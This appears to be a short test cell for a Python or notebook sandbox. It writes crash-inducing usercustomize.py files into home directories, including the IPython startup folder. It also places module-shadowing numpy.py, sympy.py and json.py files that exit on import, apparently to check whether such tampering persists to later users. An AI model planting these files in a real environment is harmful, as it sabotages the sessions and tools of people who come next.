# Leaves settings for Python, matplotlib and IPython in its home, for those who come next.
# Must: x is 1
# %%
for name in (".local/lib/python3.11/site-packages", ".config/matplotlib", ".ipython/profile_default/startup"):
    os.makedirs(os.path.join(os.environ["HOME"], name))
    with open(os.path.join(os.environ["HOME"], name, "usercustomize.py"), "w") as file: file.write("1/0")
for name in ("numpy.py", "sympy.py", "json.py", "matplotlibrc"):
    with open(name, "w") as file: file.write("raise SystemExit")
reach()
x = 1
